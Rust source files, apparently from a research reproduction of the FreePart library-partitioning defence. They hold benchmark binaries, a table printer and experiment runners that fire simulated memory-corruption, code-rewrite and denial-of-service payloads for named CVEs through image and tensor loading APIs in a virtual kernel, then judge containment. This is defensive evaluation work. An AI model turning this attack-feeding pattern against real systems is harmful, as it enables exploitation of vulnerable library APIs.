            format!("{:.0}", r.baseline.throughput_cps),
            format!("{:.1}", r.p50_ns as f64 / 1e3),
            format!("{:.1}", r.p99_ns as f64 / 1e3),
            format!("{:.0}", r.pooled.wall_ns_per_call),
        ]);
    }
    table.print("Multi-tenant serving: shared pools vs per-thread agent sets");

    // The whole point of pooling, part 1 — process census: 4 shared
    // agents + N pipeline contexts (+ host), against 4 per pipeline.
    for r in &rows {
        assert_eq!(r.pooled_agents, 4, "exactly four shared pools");
        assert_eq!(
            r.pooled.procs,
            5 + r.tenants,
            "pooled census is host + 4 agents + N tenants"
        );
        assert_eq!(
            r.baseline.procs,
            5 + 4 * r.tenants,
            "baseline census is host + MAIN's agents + 4 per pipeline"
        );
        println!(
            "census check (N={}): {} pooled vs {} per-thread ✓",
            r.tenants, r.pooled.procs, r.baseline.procs
        );
    }

    // Part 2 — aggregate throughput: sharing the agents must win once
    // admission costs amortize (the ISSUE's bar: at 100 and 1000).
    for r in rows.iter().filter(|r| r.tenants >= 100) {
        assert!(
            r.pooled.throughput_cps >= r.baseline.throughput_cps,
            "pooled lost at N={}: {:.0} vs {:.0} calls/s",
            r.tenants,
            r.pooled.throughput_cps,
            r.baseline.throughput_cps
        );
        println!(
            "throughput check (N={}): {:.0} >= {:.0} calls/s ✓",
            r.tenants, r.pooled.throughput_cps, r.baseline.throughput_cps
        );
    }

    // Part 3 — bounded tail: fair scheduling keeps the p99 within a
    // small multiple of the median (no tenant waits disproportionately).
    for r in &rows {
        assert!(
            r.p99_ns <= 4 * r.p50_ns.max(1),
            "unbounded tail at N={}: p99 {} ns vs p50 {} ns",
            r.tenants,
            r.p99_ns,
            r.p50_ns
        );
    }
    println!("tail check: p99 <= 4 x p50 at every scale ✓");

    // Part 4 — the O(1)-in-tenants hot path: real per-call cost from 10
    // to 1000 tenants must stay far under the 100x a linear-in-tenants
    // path would cost.
    let cost_at = |n: usize| {
        rows.iter()
            .find(|r| r.tenants == n)
            .expect("scale present")
            .pooled
            .wall_ns_per_call
    };
    let ratio = cost_at(1000) / cost_at(10).max(1e-9);
    assert!(
        ratio < 25.0,
        "per-call cost not sub-linear: {ratio:.1}x from 10 to 1000 tenants (linear would be 100x)"
    );
    println!("sub-linearity check: {ratio:.1}x per-call cost 10 -> 1000 tenants (< 25x) ✓");

    // Scenario — chatty tenant: DRR bounds the victim's wait by the
    // quantum window, not the flood size.
    let fairness = run_fairness(48);
    let (foreign, bound, flood) = fairness;
    assert!(
        foreign <= bound,
        "victim waited out {foreign} foreign items (bound {bound})"
    );
    println!(
        "fairness check: victim saw {foreign} foreign items (DRR bound {bound}, \
         FIFO would be {flood}) ✓"
    );

    // Scenario — cross-tenant leak: denied, audited, and the verdict
    // reproducible from the commit log alone.
    let leak = run_leak();
    assert!(leak.denied, "leak attempt must be denied");
    assert!(leak.audited, "denial must be audited");
    assert!(leak.replay_clean && leak.digest_match, "replay must agree");
    assert_eq!(
        leak.attacker_grants_in_log, 0,
        "no segment view was ever granted to the attacker"
    );
    assert!(
        leak.victim_grants_in_log > 0,
        "the victim's own views are in the log (the grant table is live)"
    );
    println!(
        "leak check: denied + audited ({} denials), replay digest-identical, \
         {} attacker grants vs {} victim grants in the log ✓",
        leak.denials_audited, leak.attacker_grants_in_log, leak.victim_grants_in_log
    );

    let json = to_json(&rows, fairness, &leak);
    let out = workspace_root().join("BENCH_multitenant.json");
    std::fs::write(&out, &json).expect("write BENCH_multitenant.json");
    println!("wrote {} ({} scales)", out.display(), rows.len());
}
