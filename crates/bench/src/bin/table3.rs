//! Regenerates **Table 3**: vulnerable APIs used across the 56-app study
//! corpus (avg / max / total per framework per type).

use freepart_apps::study::{study_corpus, table3};
use freepart_bench::Table;
use freepart_frameworks::api::{ApiType, Framework};
use freepart_frameworks::registry::standard_registry;

fn main() {
    let reg = standard_registry();
    let corpus = study_corpus(&reg);
    let mut t = Table::new([
        "Framework",
        "DL avg",
        "DL max",
        "DL tot",
        "DP avg",
        "DP max",
        "DP tot",
        "VZ avg",
        "VZ max",
        "VZ tot",
        "ST avg",
        "ST max",
        "ST tot",
    ]);
    let fws = [
        Framework::OpenCv,
        Framework::TensorFlow,
        Framework::Pillow,
        Framework::NumPy,
    ];
    let mut grand = [0usize; 4];
    for fw in fws {
        let mut row = vec![fw.to_string()];
        for (i, ty) in ApiType::ALL.into_iter().enumerate() {
            let c = table3(&reg, &corpus, fw, ty);
            grand[i] += c.total;
            row.push(format!("{:.1}", c.avg));
            row.push(c.max.to_string());
            row.push(c.total.to_string());
        }
        t.row(row);
    }
    let mut total_row = vec!["Total".to_owned()];
    for g in grand {
        total_row.push(String::new());
        total_row.push(String::new());
        total_row.push(g.to_string());
    }
    t.row(total_row);
    t.print("Table 3 — Vulnerable APIs used in the 56-app study corpus (measured)");
    println!(
        "\nPaper (Table 3): per-app averages stay small (OpenCV DL 0.6, TF DP 2.3, ...)\n\
         with single-digit maxima — each agent process holds only a handful of\n\
         vulnerable APIs. The corpus reproduces that sparsity."
    );
}
