//! Regenerates **Fig. 4**: average runtime of the motivating example as
//! the number of partitions grows from 4 to 25 (random fine-grained
//! splits of the data-processing partition).

use freepart_bench::fig4_sweep;

fn main() {
    let seeds = 4; // random partitionings averaged per point
    let points = fig4_sweep(25, seeds);
    let base = points[0].1;
    println!("\n== Fig. 4 — Runtime vs number of partitions (measured, {seeds} seeds/point) ==");
    println!(
        "{:>10} {:>12} {:>10}  bar",
        "partitions", "avg time ms", "vs 4-part"
    );
    let max = points.iter().map(|p| p.1).fold(0.0f64, f64::max);
    for (n, t) in &points {
        let bar_len = (t / max * 40.0) as usize;
        println!(
            "{n:>10} {:>12.3} {:>9.2}x  {}",
            t / 1e6,
            t / base,
            "#".repeat(bar_len)
        );
    }
    let five = points.iter().find(|(n, _)| *n == 5).unwrap().1;
    println!(
        "\n4 → 5 partitions multiplies the runtime by {:.2}x (paper: 1.4x — the\n\
         hot-loop pair cv.rectangle/cv.putText lands in different partitions and\n\
         their shared image starts bouncing between processes).",
        five / base
    );
}
