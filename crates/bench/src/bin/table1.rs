//! Regenerates **Table 1**: effectiveness of existing techniques and
//! FreePart on the motivating example — attack outcomes (M/C/D),
//! CVE-API isolation, granularity, process counts, and relative
//! performance.

use freepart_apps::omr::omr_universe;
use freepart_baselines::SchemeKind;
use freepart_bench::{cve_apis_isolated, granularity, mean_std, omr_attacks, omr_run, Table};
use freepart_frameworks::registry::standard_registry;

fn main() {
    let reg = standard_registry();
    let universe = omr_universe(&reg);
    let base = omr_run(SchemeKind::Original).time_ns as f64;

    let mut t = Table::new([
        "Scheme",
        "M",
        "C",
        "D",
        "#CVE APIs isolated",
        "σ(APIs/proc)",
        "min",
        "max",
        "#proc",
        "overhead",
    ]);
    for kind in SchemeKind::ALL {
        if kind == SchemeKind::Original {
            continue; // Table 1 compares protection schemes.
        }
        let attacks = omr_attacks(kind);
        let run = omr_run(kind);
        let g = granularity(kind, &reg, &universe);
        let (_, std) = mean_std(&g);
        let mark = |ok: bool| if ok { "prevented" } else { "FAILED" };
        t.row([
            kind.name().to_owned(),
            mark(attacks.m_prevented).to_owned(),
            mark(attacks.c_prevented).to_owned(),
            mark(attacks.d_prevented).to_owned(),
            cve_apis_isolated(kind).to_string(),
            format!("{std:.1}"),
            g.iter().min().unwrap().to_string(),
            g.iter().max().unwrap().to_string(),
            run.processes.to_string(),
            format!("{:+.2}%", (run.time_ns as f64 / base - 1.0) * 100.0),
        ]);
    }
    t.print("Table 1 — Effectiveness of existing techniques and FreePart (measured)");
    println!(
        "\nPaper (Table 1): Code API σ47.9 1..84 3proc | Code API&Data σ37.3 0..84 5proc |\n\
         Entire Lib σ60.8 0..86 2proc | Individual σ0.1 1..1 87proc | Memory σ- 86..86 1proc |\n\
         FreePart σ32.4 0..75 5proc; attacks: FreePart prevents M/C/D with 2 CVE APIs isolated."
    );
}
