//! Plain-text table rendering for the report binaries.

/// A simple fixed-layout table printer.
#[derive(Debug, Default)]
pub struct Table {
    header: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl Table {
    /// A table with the given column headers.
    pub fn new<S: Into<String>, I: IntoIterator<Item = S>>(header: I) -> Table {
        Table {
            header: header.into_iter().map(Into::into).collect(),
            rows: Vec::new(),
        }
    }

    /// Appends one row.
    pub fn row<S: Into<String>, I: IntoIterator<Item = S>>(&mut self, cells: I) -> &mut Table {
        self.rows.push(cells.into_iter().map(Into::into).collect());
        self
    }

    /// Renders the table.
    pub fn render(&self) -> String {
        let cols = self
            .header
            .len()
            .max(self.rows.iter().map(Vec::len).max().unwrap_or(0));
        let mut widths = vec![0usize; cols];
        for (i, h) in self.header.iter().enumerate() {
            widths[i] = widths[i].max(h.len());
        }
        for row in &self.rows {
            for (i, c) in row.iter().enumerate() {
                widths[i] = widths[i].max(c.len());
            }
        }
        let mut out = String::new();
        let fmt_row = |cells: &[String], widths: &[usize]| -> String {
            let mut line = String::from("|");
            for (i, w) in widths.iter().enumerate() {
                let cell = cells.get(i).map(String::as_str).unwrap_or("");
                line.push_str(&format!(" {cell:<w$} |"));
            }
            line
        };
        out.push_str(&fmt_row(&self.header, &widths));
        out.push('\n');
        let mut sep = String::from("|");
        for w in &widths {
            sep.push_str(&format!("{}|", "-".repeat(w + 2)));
        }
        out.push_str(&sep);
        out.push('\n');
        for row in &self.rows {
            out.push_str(&fmt_row(row, &widths));
            out.push('\n');
        }
        out
    }

    /// Prints the table with a title banner.
    pub fn print(&self, title: &str) {
        println!("\n== {title} ==");
        print!("{}", self.render());
    }
}

/// Formats a fraction as a percentage string.
pub fn pct(x: f64) -> String {
    format!("{:.2}%", x * 100.0)
}

/// Formats bytes human-readably.
pub fn bytes(n: u64) -> String {
    if n >= 1 << 30 {
        format!("{:.2} GiB", n as f64 / (1u64 << 30) as f64)
    } else if n >= 1 << 20 {
        format!("{:.2} MiB", n as f64 / (1u64 << 20) as f64)
    } else if n >= 1 << 10 {
        format!("{:.2} KiB", n as f64 / 1024.0)
    } else {
        format!("{n} B")
    }
}

/// Formats virtual nanoseconds as milliseconds.
pub fn ms(ns: u64) -> String {
    format!("{:.3} ms", ns as f64 / 1e6)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_renders_aligned() {
        let mut t = Table::new(["name", "value"]);
        t.row(["alpha", "1"]);
        t.row(["b", "12345"]);
        let s = t.render();
        let lines: Vec<&str> = s.lines().collect();
        assert_eq!(lines.len(), 4);
        assert!(lines.iter().all(|l| l.len() == lines[0].len()));
        assert!(s.contains("alpha"));
    }

    #[test]
    fn unit_formatters() {
        assert_eq!(pct(0.0368), "3.68%");
        assert_eq!(bytes(512), "512 B");
        assert_eq!(bytes(2048), "2.00 KiB");
        assert_eq!(bytes(3 << 20), "3.00 MiB");
        assert_eq!(ms(1_500_000), "1.500 ms");
    }
}
