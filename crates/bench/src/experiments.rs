//! Experiment runners behind the per-table/figure report binaries.
//!
//! Everything here measures the *simulated* system — virtual time, IPC
//! counters, attack verdicts — deterministically. The report binaries
//! print these next to the paper's published numbers (EXPERIMENTS.md
//! records both).

use freepart::{PartitionPlan, Policy, Runtime};
use freepart_analysis::{HybridReport, SyscallProfile};
use freepart_apps::omr::{self, OmrConfig};
use freepart_apps::{resolve, run_app, RunOptions, TABLE6};
use freepart_attacks::{judge, payloads, AttackGoal};
use freepart_baselines::{build, ApiSurface, SchemeKind};
use freepart_frameworks::api::{ApiId, ApiRegistry, ApiType};
use freepart_frameworks::registry::standard_registry;
use std::collections::BTreeMap;
use std::sync::OnceLock;

/// Hybrid analysis over the standard catalog, computed once per process
/// (every `Runtime::install` would otherwise redo the full dynamic pass).
pub fn shared_analysis() -> &'static (HybridReport, SyscallProfile) {
    static CELL: OnceLock<(HybridReport, SyscallProfile)> = OnceLock::new();
    CELL.get_or_init(|| {
        let reg = standard_registry();
        let corpus = freepart_analysis::TestCorpus::full(&reg);
        (
            freepart_analysis::categorize(&reg, &corpus),
            SyscallProfile::build(&reg, &corpus),
        )
    })
}

/// Installs FreePart with the cached analysis.
pub fn fast_install(policy: Policy) -> Runtime {
    let (report, profile) = shared_analysis();
    Runtime::install_with(standard_registry(), report.clone(), profile.clone(), policy)
}

/// Standard grading workload for the motivating-example experiments.
pub fn omr_workload() -> OmrConfig {
    OmrConfig::benign(24)
}

/// APIs the drone control loop touches (its per-API baseline universe).
pub fn drone_universe(reg: &ApiRegistry) -> Vec<ApiId> {
    [
        "cv2.VideoCapture",
        "cv2.VideoCapture.read",
        "cv2.imwrite",
        "cv2.imread",
        "cv2.cvtColor",
        "cv2.findContours",
    ]
    .iter()
    .map(|n| reg.id_of(n).expect("catalog API"))
    .collect()
}

/// Standard control-loop workload for the drone experiments.
pub fn drone_workload() -> freepart_apps::drone::DroneConfig {
    freepart_apps::drone::DroneConfig {
        frames: 12,
        evil_frame: None,
    }
}

/// One row of the pipelined-execution experiment (`pipeline` binary).
#[derive(Debug, Clone)]
pub struct PipelineRun {
    /// Execution mode.
    pub mode: &'static str,
    /// Virtual completion time: the global clock for synchronous runs,
    /// the makespan over per-process timelines for the pipelined run.
    pub time_ns: u64,
    /// IPC messages exchanged.
    pub ipc: u64,
    /// Happens-before timeline merges (0 for synchronous runs).
    pub timeline_merges: u64,
    /// Steering commands issued — identity-checked across modes.
    pub commands: Vec<f64>,
}

/// Runs the drone control loop three ways — unprotected Original,
/// sequential FreePart, and pipelined FreePart on per-process virtual
/// timelines — and reports each mode's completion time. The pipelined
/// run must issue byte-identical steering commands; callers assert the
/// speedup they need.
pub fn pipeline_comparison(frames: u32) -> Vec<PipelineRun> {
    let cfg = freepart_apps::drone::DroneConfig {
        frames,
        evil_frame: None,
    };
    let universe = drone_universe(&standard_registry());
    let mut rows = Vec::new();

    let mut orig = build(SchemeKind::Original, standard_registry(), &universe);
    orig.kernel_mut().reset_accounting();
    let r = freepart_apps::drone::run(orig.as_mut(), &cfg);
    assert_eq!(r.frames_processed, frames, "original completes");
    rows.push(PipelineRun {
        mode: "Original",
        time_ns: orig.kernel().clock().now_ns(),
        ipc: orig.kernel().metrics().ipc_messages,
        timeline_merges: orig.kernel().metrics().timeline_merges,
        commands: r.commands,
    });

    let mut seq = fast_install(Policy::freepart());
    seq.kernel.reset_accounting();
    let r = freepart_apps::drone::run(&mut seq, &cfg);
    assert_eq!(r.frames_processed, frames, "sequential completes");
    rows.push(PipelineRun {
        mode: "FreePart (sequential)",
        time_ns: seq.kernel.clock().now_ns(),
        ipc: seq.kernel.metrics().ipc_messages,
        timeline_merges: seq.kernel.metrics().timeline_merges,
        commands: r.commands,
    });

    let mut pip = fast_install(Policy::freepart());
    pip.kernel.reset_accounting();
    let r = freepart_apps::pipeline::run_drone_pipelined(&mut pip, &cfg);
    assert_eq!(r.frames_processed, frames, "pipelined completes");
    assert_eq!(pip.in_flight(), 0, "pipelined run fully drained");
    rows.push(PipelineRun {
        mode: "FreePart (pipelined)",
        time_ns: pip.kernel.makespan_ns(),
        ipc: pip.kernel.metrics().ipc_messages,
        timeline_merges: pip.kernel.metrics().timeline_merges,
        commands: r.commands,
    });
    rows
}

/// Performance metrics of one scheme on the motivating example
/// (Table 9's columns).
#[derive(Debug, Clone)]
pub struct SchemeRun {
    /// The scheme.
    pub kind: SchemeKind,
    /// IPC messages.
    pub ipc: u64,
    /// Bytes moved across processes.
    pub transfer_bytes: u64,
    /// Copy operations.
    pub copy_ops: u64,
    /// Virtual runtime in nanoseconds.
    pub time_ns: u64,
    /// Processes used.
    pub processes: usize,
    /// Submissions graded (sanity: workload completed).
    pub completed: u32,
}

/// Runs the benign OMR workload under one scheme.
pub fn omr_run(kind: SchemeKind) -> SchemeRun {
    let reg = standard_registry();
    let universe = omr::omr_universe(&reg);
    let mut surface = build(kind, standard_registry(), &universe);
    surface.kernel_mut().reset_accounting();
    let r = omr::run(surface.as_mut(), &omr_workload());
    let m = surface.kernel().metrics();
    SchemeRun {
        kind,
        ipc: m.ipc_messages,
        transfer_bytes: m.total_transfer_bytes(),
        copy_ops: m.copy_ops,
        time_ns: surface.kernel().clock().now_ns(),
        processes: surface.process_count(),
        completed: r.completed,
    }
}

/// Attack verdicts for one scheme on the motivating example (Table 1's
/// M / C / D columns).
#[derive(Debug, Clone, Copy)]
pub struct SchemeAttacks {
    /// The scheme.
    pub kind: SchemeKind,
    /// Memory-corruption attack on `template` prevented.
    pub m_prevented: bool,
    /// Code-manipulation attack prevented.
    pub c_prevented: bool,
    /// Denial-of-service attack prevented (host stays up).
    pub d_prevented: bool,
}

fn fresh(kind: SchemeKind) -> (ApiRegistry, Vec<ApiId>, Box<dyn ApiSurface>) {
    let reg = standard_registry();
    let universe = omr::omr_universe(&reg);
    let surface = build(kind, standard_registry(), &universe);
    (reg, universe, surface)
}

/// Launches the three Table 1 attacks against one scheme, each on a
/// fresh instance, and judges them from ground truth.
pub fn omr_attacks(kind: SchemeKind) -> SchemeAttacks {
    // ---- M: corrupt `template` via the imread CVE ----
    let m_prevented = {
        let (_, _, mut s) = fresh(kind);
        // Learn the template address with a probe instance of the same
        // scheme (the paper's "attacker knows exact addresses").
        let addr = {
            let (_, _, mut probe) = fresh(kind);
            let r = omr::run(probe.as_mut(), &OmrConfig::benign(0));
            probe.objects().meta(r.template).unwrap().buffer.unwrap().0
        };
        let cfg = OmrConfig {
            samples: 3,
            boxes_per_sample: 2,
            evil_sample: Some((
                1,
                payloads::corrupt("CVE-2017-12597", addr.0, vec![0xEE; 32]),
            )),
            evil_imshow: None,
        };
        let r = omr::run(s.as_mut(), &cfg);
        let log = s.exploit_log().to_vec();
        let (kernel, objects, host) = s.attack_view();
        judge(
            &AttackGoal::CorruptObject {
                id: r.template,
                original: r.template_original,
            },
            kernel,
            objects,
            host,
            &log,
        )
        .prevented()
    };

    // ---- C: rewrite API code via the imread CVE ----
    let c_prevented = {
        let (_, _, mut s) = fresh(kind);
        // Warm up so filters are sealed where the scheme has them.
        omr::run(s.as_mut(), &OmrConfig::benign(1));
        let code = s.code_target();
        let cfg = OmrConfig {
            samples: 2,
            boxes_per_sample: 2,
            evil_sample: Some((0, payloads::code_rewrite("CVE-2017-17760", code))),
            evil_imshow: None,
        };
        omr::run(s.as_mut(), &cfg);
        let log = s.exploit_log().to_vec();
        let (kernel, objects, host) = s.attack_view();
        judge(&AttackGoal::RewriteCode, kernel, objects, host, &log).prevented()
    };

    // ---- D: crash the application via the imread CVE ----
    let d_prevented = {
        let (_, _, mut s) = fresh(kind);
        let cfg = OmrConfig {
            samples: 3,
            boxes_per_sample: 2,
            evil_sample: Some((1, payloads::dos("CVE-2017-14136"))),
            evil_imshow: None,
        };
        omr::run(s.as_mut(), &cfg);
        let log = s.exploit_log().to_vec();
        let (kernel, objects, host) = s.attack_view();
        judge(&AttackGoal::CrashHost, kernel, objects, host, &log).prevented()
    };

    SchemeAttacks {
        kind,
        m_prevented,
        c_prevented,
        d_prevented,
    }
}

/// APIs per process for one scheme over the motivating-example universe
/// (Table 10's rows / Table 1's granularity columns).
pub fn granularity(kind: SchemeKind, reg: &ApiRegistry, universe: &[ApiId]) -> Vec<usize> {
    let type_of = |id: ApiId| reg.spec(id).declared_type;
    match kind {
        SchemeKind::Original | SchemeKind::MemoryBased | SchemeKind::LibraryEntire => {
            vec![universe.len()]
        }
        SchemeKind::LibraryPerApi => vec![1; universe.len()],
        SchemeKind::CodeApi | SchemeKind::CodeApiData => {
            // loading | visualizing | rest (+ data processes hold 0 APIs).
            let mut buckets = [0usize; 3];
            for &id in universe {
                match type_of(id) {
                    ApiType::DataLoading => buckets[0] += 1,
                    ApiType::Visualizing => buckets[1] += 1,
                    _ => buckets[2] += 1,
                }
            }
            let mut v = buckets.to_vec();
            if kind == SchemeKind::CodeApiData {
                v.extend([0, 0]); // template / OMRCrop data processes
            }
            v
        }
        SchemeKind::FreePart => {
            let plan = PartitionPlan::four();
            plan.group(universe, type_of)
                .values()
                .map(Vec::len)
                .collect()
        }
    }
}

/// Mean and population standard deviation of a granularity vector.
pub fn mean_std(v: &[usize]) -> (f64, f64) {
    if v.is_empty() {
        return (0.0, 0.0);
    }
    let mean = v.iter().sum::<usize>() as f64 / v.len() as f64;
    let var = v.iter().map(|&x| (x as f64 - mean).powi(2)).sum::<f64>() / v.len() as f64;
    (mean, var.sqrt())
}

/// How many of the example's two exploited APIs (`imread`, `imshow`)
/// each scheme isolates — in a process holding neither critical data
/// nor the other exploited API (Table 1's "# of CVE APIs isolated").
pub fn cve_apis_isolated(kind: SchemeKind) -> usize {
    match kind {
        // Single process: nothing is isolated.
        SchemeKind::Original | SchemeKind::MemoryBased => 0,
        // Both vulnerable APIs share the library process.
        SchemeKind::LibraryEntire => 0,
        // imread shares its process with the critical data; imshow is
        // clean.
        SchemeKind::CodeApi => 1,
        // Data moved out: both are isolated.
        SchemeKind::CodeApiData => 2,
        SchemeKind::LibraryPerApi => 2,
        // imread in the loading agent, imshow in the visualizing agent.
        SchemeKind::FreePart => 2,
    }
}

// ----------------------------------------------------------------------
// Fig. 13 / Table 12: the 23-application overhead sweep
// ----------------------------------------------------------------------

/// One application's overhead measurement.
#[derive(Debug, Clone)]
pub struct AppOverhead {
    /// Table 6 sample id.
    pub id: u32,
    /// Application name.
    pub name: &'static str,
    /// Baseline (original) virtual time, ns.
    pub base_ns: u64,
    /// FreePart virtual time, ns.
    pub freepart_ns: u64,
    /// FreePart-without-LDC virtual time, ns.
    pub no_ldc_ns: u64,
    /// Lazy copies under FreePart.
    pub ldc_copies: u64,
    /// Non-lazy (through-host) copies under FreePart.
    pub host_copies: u64,
}

impl AppOverhead {
    /// FreePart overhead over the original.
    pub fn overhead(&self) -> f64 {
        self.freepart_ns as f64 / self.base_ns.max(1) as f64 - 1.0
    }

    /// No-LDC overhead over the original.
    pub fn overhead_no_ldc(&self) -> f64 {
        self.no_ldc_ns as f64 / self.base_ns.max(1) as f64 - 1.0
    }
}

fn run_one_app(id: u32, scheme: Option<Policy>) -> (u64, u64, u64) {
    let reg = standard_registry();
    let spec = freepart_apps::by_id(id).expect("table6 id");
    let app = resolve(spec, &reg);
    let opts = RunOptions::default();
    match scheme {
        None => {
            let mut rt = freepart_baselines::MonolithicRuntime::original(standard_registry());
            rt.kernel.reset_accounting();
            run_app(&app, &reg, &mut rt, &opts).expect("app runs");
            (rt.kernel.clock().now_ns(), 0, 0)
        }
        Some(policy) => {
            let mut rt = fast_install(policy);
            rt.kernel.reset_accounting();
            run_app(&app, &reg, &mut rt, &opts).expect("app runs");
            let s = rt.stats();
            (rt.kernel.clock().now_ns(), s.ldc_copies, s.host_copies)
        }
    }
}

/// Measures one Table 6 application under original / FreePart / no-LDC.
pub fn app_overhead(id: u32) -> AppOverhead {
    let spec = freepart_apps::by_id(id).expect("table6 id");
    let (base_ns, _, _) = run_one_app(id, None);
    let (freepart_ns, ldc_copies, host_copies) = run_one_app(id, Some(Policy::freepart()));
    let (no_ldc_ns, _, _) = run_one_app(id, Some(Policy::without_ldc()));
    AppOverhead {
        id,
        name: spec.name,
        base_ns,
        freepart_ns,
        no_ldc_ns,
        ldc_copies,
        host_copies,
    }
}

/// Runs the full 23-application sweep.
pub fn fig13_sweep() -> Vec<AppOverhead> {
    TABLE6.iter().map(|s| app_overhead(s.id)).collect()
}

// ----------------------------------------------------------------------
// Fig. 4: partition-count sweep on the motivating example
// ----------------------------------------------------------------------

/// Average virtual runtime of the OMR workload with `n` partitions over
/// `seeds` random fine-grained plans.
pub fn fig4_point(n: u32, seeds: u64) -> f64 {
    // The Fig. 4 workload stresses the hot-loop pair: many
    // rectangle/putText annotations per submission (the paper's example
    // executes them in a hot loop).
    let workload = OmrConfig {
        samples: 6,
        boxes_per_sample: 120,
        ..OmrConfig::default()
    };
    let mut total = 0.0;
    for seed in 0..seeds {
        let reg = standard_registry();
        let universe = omr::omr_universe(&reg);
        let plan = PartitionPlan::random_split(&reg, &universe, n, seed * 7919 + n as u64);
        let mut rt = fast_install(Policy {
            plan,
            ..Policy::freepart()
        });
        rt.kernel.reset_accounting();
        omr::run(&mut rt, &workload);
        total += rt.kernel.clock().now_ns() as f64;
    }
    total / seeds as f64
}

/// Sweeps partition counts `4..=max_n`.
pub fn fig4_sweep(max_n: u32, seeds: u64) -> Vec<(u32, f64)> {
    (4..=max_n).map(|n| (n, fig4_point(n, seeds))).collect()
}

// ----------------------------------------------------------------------
// §5 "Correctness": per-CVE attack sweep under FreePart
// ----------------------------------------------------------------------

/// One CVE's verification result under FreePart.
#[derive(Debug, Clone)]
pub struct CveVerdict {
    /// CVE identifier.
    pub id: &'static str,
    /// API the exploit entered through.
    pub api: &'static str,
    /// The exploit was observed to fire (reached a vulnerable API).
    pub fired: bool,
    /// The host application survived.
    pub host_survived: bool,
    /// Nothing the attacker attempted was achieved.
    pub fully_prevented: bool,
}

/// Exercises every Table 5 CVE against FreePart: a DoS payload is fed
/// through the vulnerable API's input channel; containment is judged.
pub fn cve_sweep() -> Vec<CveVerdict> {
    use freepart_frameworks::api::ApiKind;
    use freepart_frameworks::{fileio, image::Image, tensor::Tensor, Value};
    let mut out = Vec::new();
    for cve in freepart_attacks::TABLE5 {
        let mut rt = fast_install(Policy::freepart());
        let payload = payloads::dos(cve.id);
        let spec_kind = rt.registry().by_name(cve.api).expect("catalog API").kind;
        // Feed the crafted input along the API's natural channel.
        let fired = match spec_kind {
            ApiKind::ImRead | ApiKind::ImShow => {
                let img = Image::new(16, 16, 3);
                rt.kernel
                    .fs
                    .put("/atk.simg", fileio::encode_image(&img, Some(&payload)));
                let loaded = rt.call("cv2.imread", &[Value::from("/atk.simg")]);
                match (cve.api, loaded) {
                    // imread itself is the target: it crashed.
                    ("cv2.imread", Err(_)) => true,
                    // imshow is the target: pass the tainted Mat on.
                    (_, Ok(v)) => rt.call(cve.api, &[Value::from("atk"), v]).is_err(),
                    _ => false,
                }
            }
            ApiKind::DetectMultiScale => {
                let img = Image::new(32, 32, 3);
                rt.kernel
                    .fs
                    .put("/atk.simg", fileio::encode_image(&img, Some(&payload)));
                let tainted = rt.call("cv2.imread", &[Value::from("/atk.simg")]).unwrap();
                rt.kernel.fs.put("/c.xml", vec![1; 8]);
                let clf = rt
                    .call("cv2.CascadeClassifier.load", &[Value::from("/c.xml")])
                    .unwrap();
                rt.call(cve.api, &[clf, tainted]).is_err()
            }
            ApiKind::Binary(_) => {
                let img = Image::new(16, 16, 3);
                rt.kernel
                    .fs
                    .put("/atk.simg", fileio::encode_image(&img, Some(&payload)));
                let a = rt.call("cv2.imread", &[Value::from("/atk.simg")]).unwrap();
                let b = rt.call("cv2.imread", &[Value::from("/atk.simg")]).unwrap();
                rt.call(cve.api, &[a, b]).is_err()
            }
            ApiKind::TensorConv
            | ApiKind::TensorPoolMax
            | ApiKind::TensorPoolAvg
            | ApiKind::TensorUnary(_) => {
                let t = Tensor::generate(&[36], |i| i as f32);
                rt.kernel
                    .fs
                    .put("/atk.stsr", fileio::encode_tensor(&t, Some(&payload)));
                let tainted = rt.call("torch.load", &[Value::from("/atk.stsr")]).unwrap();
                rt.call(cve.api, &[tainted]).is_err()
            }
            _ => {
                // Generic file loaders (PIL.Image.open etc.).
                let img = Image::new(16, 16, 3);
                rt.kernel
                    .fs
                    .put("/atk.simg", fileio::encode_image(&img, Some(&payload)));
                rt.call(cve.api, &[Value::from("/atk.simg")]).is_err()
            }
        };
        let host_survived = rt.kernel.is_running(rt.host_pid());
        let fully_prevented = host_survived
            && !rt.kernel.network.leaked(b"SECRET")
            && rt.exploit_log.iter().all(|r| {
                // CrashSelf "achieves" a crash — of the agent only; the
                // DoS goal (host down) is what's judged.
                matches!(r.action, freepart_frameworks::ExploitAction::CrashSelf)
                    || !r.outcome.achieved()
            });
        out.push(CveVerdict {
            id: cve.id,
            api: cve.api,
            fired,
            host_survived,
            fully_prevented,
        });
    }
    out
}

/// Per-type allowlists over the full catalog (Table 7 data).
pub fn table7_allowlists() -> BTreeMap<ApiType, Vec<&'static str>> {
    use freepart_analysis::{SyscallProfile, TestCorpus};
    let reg = standard_registry();
    let corpus = TestCorpus::full(&reg);
    let profile = SyscallProfile::build(&reg, &corpus);
    let assignment: BTreeMap<_, _> = reg.iter().map(|s| (s.id, s.declared_type)).collect();
    profile
        .per_type(&assignment)
        .into_iter()
        .map(|(t, set)| (t, set.into_iter().map(|s| s.name()).collect()))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn omr_run_completes_under_every_scheme() {
        for kind in SchemeKind::ALL {
            let r = omr_run(kind);
            assert_eq!(r.completed, 24, "{:?}", kind);
            assert!(r.time_ns > 0);
        }
    }

    #[test]
    fn pipelined_drone_beats_sequential_with_identical_commands() {
        let rows = pipeline_comparison(12);
        assert_eq!(rows.len(), 3);
        let seq = &rows[1];
        let pip = &rows[2];
        assert_eq!(pip.commands, rows[0].commands, "pipelined == original");
        assert_eq!(pip.commands, seq.commands, "pipelined == sequential");
        let speedup = seq.time_ns as f64 / pip.time_ns as f64;
        assert!(
            speedup >= 1.2,
            "pipelined speedup {speedup:.3} below the 1.2x floor \
             (seq {} ns, pip {} ns)",
            seq.time_ns,
            pip.time_ns
        );
        assert!(pip.timeline_merges > 0, "happens-before merges recorded");
        assert_eq!(seq.timeline_merges, 0, "sync run stays on global time");
    }

    #[test]
    fn overhead_ordering_matches_table9_shape() {
        let by_kind: BTreeMap<SchemeKind, SchemeRun> =
            SchemeKind::ALL.iter().map(|&k| (k, omr_run(k))).collect();
        let t = |k: SchemeKind| by_kind[&k].time_ns as f64;
        let base = t(SchemeKind::Original);
        // Memory-based ≈ original.
        assert!((t(SchemeKind::MemoryBased) / base - 1.0).abs() < 0.02);
        // FreePart: low single-digit overhead.
        let fp = t(SchemeKind::FreePart) / base - 1.0;
